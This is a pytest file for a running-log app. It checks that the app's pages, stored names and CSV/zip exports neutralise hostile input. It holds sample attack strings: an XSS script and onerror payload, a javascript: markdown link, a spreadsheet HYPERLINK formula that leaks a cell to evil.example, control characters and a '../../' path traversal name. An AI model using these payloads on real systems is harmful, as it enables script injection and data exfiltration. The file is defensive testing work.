"""Names, notes and files that carry markup, formulas, control characters or megabytes do nothing but be shown."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from xml.sax.saxutils import escape

import pytest

from runtone import clock
from runtone.library import Library
from runtone.sharing.snapshot import PARTS
from tests.browser.conftest import Visitor, served
from tests.library.recordings import InventedRun, fit_file, gpx_file

START = clock.now().replace(microsecond=0) - timedelta(days=2)
SCRIPT = '<img src=x onerror="window.pwned=1"><script>window.pwned=1</script>'
MARKDOWN = "[click](javascript:window.pwned=1) **LOUD** ![](http://evil.example/i.png) :red[red] $\\frac{1}{2}$"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
CONTROL = "left\u202eright\x00\x07\x1b[31m\u200b\r\nSecond-line"
LONG = "long " * 250_000
NAMES = {"script": SCRIPT, "markdown": MARKDOWN, "formula": FORMULA, "control": CONTROL, "long": LONG}


class Hostile:
    """A server whose library is full of hostile names, and a link with every part."""

    def __init__(self, address: str, library: Library, token: str) -> None:
        self.address, self.library, self.token = address, library, token


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hostile]:
    folder = tmp_path_factory.mktemp("hostile")
    library = Library.open(f"sqlite:///{folder / 'library.sqlite3'}")
    mine = library.owned_by()
    first = InventedRun(start=START, minutes=60)  # longer than any private ends, which a profile is cut to
    inside = gpx_file(first, name=escape(SCRIPT + MARKDOWN))
    results = list(
        mine.import_sources(
            [
                (f"../../{SCRIPT}.gpx", inside),
                (f"{MARKDOWN}.fit", b"not a FIT file " + SCRIPT.encode()),
                (f"{FORMULA}\x00\r\n.fit", fit_file(first.later(days=-1))),
                *((f"{number}.fit", fit_file(first.later(hours=-6 * number - 30))) for number in range(4)),
            ]
        )
    )
    assert sum(result.status == "imported" for result in results) == 6
    for run_id, text in zip(mine.runs()["run_id"], NAMES.values(), strict=False):
        mine.rename(int(run_id), text)
        mine.annotate(int(run_id), text)
    parts = [part for part in PARTS if part != "map"]
    token = mine.shares.create(mine.shares.living(parts), label=SCRIPT + FORMULA).token
    with served(folder) as address:
        yield Hostile(address, library, token)
    library.close()


@pytest.mark.parametrize("path", ["/", "/runs", "/run?run=1", "/run?run=2", "/import", "/sharing", "/?share={token}"])
def test_pages_show_hostile_text_as_text(hostile: Hostile, visitor: Visitor, path: str) -> None:
    visit = visitor(hostile.address)
    dialogs: list[str] = []
    visit.page.on("dialog", lambda dialog: dialogs.append(dialog.message))
    page = visit.open(path.format(token=hostile.token), wait_for="h1, h2")
    page.wait_for_load_state("networkidle")
    if path == "/import":
        page.get_by_text("Past imports").first.click()
    if "share" in path and "=" in path:
        page.locator(".rt-runs a").first.click()
        page.get_by_role("button", name="All runs").wait_for()
    page.wait_for_timeout(500)
    assert page.evaluate("window.pwned") is None
    assert dialogs == []
    assert page.locator("img[src=x], a[href^='javascript'], img[src*='evil']").count() == 0
    assert page.locator("strong", has_text="LOUD").count() == 0
    assert "Traceback" not in page.content()
    assert len(page.content()) < 3_000_000
    assert visit.overflow() <= 0


def test_what_is_stored_is_one_short_line_without_control_characters(hostile: Hostile) -> None:
    for name in hostile.library.owned_by().runs()["name"].dropna():
        assert len(name) <= 300
        assert not set(name) & set("\x00\x07\x1b\r\n\u202e\u200b")


def test_no_cell_of_an_export_is_a_formula_and_no_member_leaves_its_folder(hostile: Hostile) -> None:
    content = b"".join(hostile.library.owned_by().export())
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for member in archive.namelist():
            assert not member.startswith("/")
            assert ".." not in Path(member).parts
        tables = [name for name in archive.namelist() if name.endswith(".csv")]
        assert tables
        for name in tables:
            for row in csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig"))):
                for cell in row:
                    assert not cell.startswith(("=", "@", "\t", "\r")), (name, cell)
                    assert not (cell.startswith(("+", "-")) and not is_number(cell)), (name, cell)


def is_number(text: str) -> bool:
    try:
        float(text.replace(":", ""))
    except ValueError:
        return False
    return True
